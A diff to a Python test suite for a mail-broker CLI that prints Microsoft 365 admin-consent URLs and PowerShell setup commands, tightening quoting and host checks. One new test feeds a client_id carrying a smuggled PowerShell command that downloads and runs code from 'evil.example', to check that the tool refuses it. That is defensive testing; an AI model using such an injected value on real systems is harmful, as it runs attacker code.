@@ -420,7 +420,8 @@ def test_doctor_names_graph_mail_send_granted_where_smtp_needs_send_as_app(cli):
     assert code == 1
     assert steps["graph"]["ok"] is False
     assert "Office 365 Exchange Online > Application permissions" in steps["graph"]["hint"]
-    assert "adminconsent?client_id=" in steps["graph"]["hint"]
+    # The sandbox's authority is not a Microsoft sign-in host: no consent link points at it.
+    assert "Grant admin consent" in steps["graph"]["hint"] and "adminconsent" not in steps["graph"]["hint"]
 
 
 def test_doctor_names_exchange_mail_send_granted_instead_of_send_as_app(cli):
@@ -676,38 +677,51 @@ def test_consent_refused_in_the_browser_stores_nothing(cli, browser, token_serve
 # --- setup microsoft -----------------------------------------------------------------------------------
 
 
-def test_setup_microsoft_prints_consent_url_and_powershell_with_the_values_filled_in(cli):
+def test_setup_microsoft_prints_powershell_with_the_values_filled_in(cli):
     document = cli.microsoft("m365")
     object_id = str(uuid.uuid4())
 
     code, out, _ = cli("setup", "microsoft", "m365", "--object-id", object_id)
 
     assert code == 0
-    assert (
-        f"{document['authority']}/{document['tenant_id']}/v2.0/adminconsent?client_id={document['client_id']}"
-        "&scope=https://outlook.office365.com/.default&redirect_uri=http://localhost"
-    ) in out.split()
-    assert f'Get-ServicePrincipal -Identity "{object_id}" | Format-List DisplayName,AppId,ObjectId' in out
+    # The sandbox's authority is not a Microsoft sign-in host: no consent URL points at it.
+    assert "adminconsent" not in out and "not a Microsoft sign-in host" in out
+    assert f"Get-ServicePrincipal -Identity '{object_id}' | Format-List DisplayName,AppId,ObjectId" in out
     assert "User.Read permission" in out and "you can remove it" in out
-    assert f'New-ServicePrincipal -AppId "{document["client_id"]}" -ObjectId "{object_id}"' in out
+    assert f"New-ServicePrincipal -AppId '{document['client_id']}' -ObjectId '{object_id}'" in out
     assert (
-        f'Add-MailboxPermission -Identity "m365@contoso.example" -User "{object_id}" -AccessRights FullAccess'
+        f"Add-MailboxPermission -Identity 'm365@contoso.example' -User '{object_id}' -AccessRights FullAccess"
         in out
     )
-    assert f'Add-RecipientPermission -Identity "m365@contoso.example" -Trustee "{object_id}"' in out
-    assert 'Set-CASMailbox -Identity "m365@contoso.example" -SmtpClientAuthenticationDisabled $false' in out
+    assert f"Add-RecipientPermission -Identity 'm365@contoso.example' -Trustee '{object_id}'" in out
+    assert "Set-CASMailbox -Identity 'm365@contoso.example' -SmtpClientAuthenticationDisabled $false" in out
+
+
+def test_setup_microsoft_prints_the_v2_consent_url_on_a_microsoft_sign_in_host(cli):
+    # No token is asked for: setup only prints, so the real authority can stand in the integration.
+    document = cli.microsoft("m365", authority="https://login.microsoftonline.com")
+
+    code, out, _ = cli("setup", "microsoft", "m365", "--object-id", str(uuid.uuid4()))
+
+    assert code == 0
+    assert (
+        f"https://login.microsoftonline.com/{document['tenant_id']}/v2.0/adminconsent?"
+        f"client_id={document['client_id']}"
+        "&scope=https://outlook.office365.com/.default&redirect_uri=http://localhost"
+    ) in out.split()
 
 
 def test_setup_microsoft_consent_url_takes_the_apps_own_redirect_uri(cli):
-    document = cli.microsoft("m365")
+    document = cli.microsoft("m365", authority="https://login.microsoftonline.us")
 
     code, plan = cli.json(
         "setup", "microsoft", "m365", "--redirect-uri", "https://app.contoso.example/consented"
     )
 
     assert code == 0
-    assert plan["admin_consent_url"].endswith(
-        f"/{document['tenant_id']}/v2.0/adminconsent?client_id={document['client_id']}"
+    assert plan["admin_consent_url"] == (
+        f"https://login.microsoftonline.us/{document['tenant_id']}/v2.0/adminconsent?"
+        f"client_id={document['client_id']}"
         "&scope=https://outlook.office365.com/.default&redirect_uri=https://app.contoso.example/consented"
     )
     assert plan["verify"].startswith("Get-ServicePrincipal -Identity <Enterprise Application object id>")
@@ -724,23 +738,39 @@ def test_setup_microsoft_without_object_id_says_which_object_id_to_use(cli):
 
 
 def test_setup_microsoft_for_graph_prints_mail_send_consent_and_the_access_policy(cli):
-    document = cli.microsoft("m365")
+    document = cli.microsoft("m365", authority="https://login.microsoftonline.com")
 
     code, out, _ = cli("setup", "microsoft", "m365", "--transport", "graph")
 
     assert code == 0
     assert "Microsoft Graph > Application" in out and "Mail.Send" in out
-    assert f"adminconsent?client_id={document['client_id']}" in out
     assert (
-        f'New-ApplicationAccessPolicy -AppId "{document["client_id"]}" -PolicyScopeGroupId "mailbroker-m365"'
+        f"https://login.microsoftonline.com/{document['tenant_id']}/adminconsent?"
+        f"client_id={document['client_id']}"
+    ) in out.split()
+    assert (
+        f"New-ApplicationAccessPolicy -AppId '{document['client_id']}' -PolicyScopeGroupId 'mailbroker-m365'"
         in out
     )
     assert (
-        f'Test-ApplicationAccessPolicy -Identity "m365@contoso.example" -AppId "{document["client_id"]}"'
+        f"Test-ApplicationAccessPolicy -Identity 'm365@contoso.example' -AppId '{document['client_id']}'"
         in out
     )
-    assert "New-ManagementRoleAssignment -App" in out and '-Role "Application Mail.Send"' in out
+    # OPATH inside a single-quoted PowerShell string: the filter's own quotes doubled once more.
+    assert "-RecipientRestrictionFilter 'PrimarySmtpAddress -eq ''m365@contoso.example'''" in out
+    assert "New-ManagementRoleAssignment -App" in out and "-Role 'Application Mail.Send'" in out
     assert "Set-CASMailbox" not in out  # SMTP AUTH is not needed for Graph
+    commands = [line for line in out.splitlines() if line.lstrip().startswith(("New-", "Test-", "Add-"))]
+    assert commands and not any('"' in line for line in commands)
+
+
+def test_setup_microsoft_for_graph_refuses_values_that_would_run_as_powershell(cli):
+    cli.microsoft("m365", transport="graph", client_id="$(iex (irm https://evil.example))")
+
+    code, out, err = cli("setup", "microsoft", "m365")
+
+    assert code == 2 and out == ""
+    assert "client_id must be" in err and "iex" not in err
 
 
 # --- send | status | dlq ------------------------------------------------------------------------------
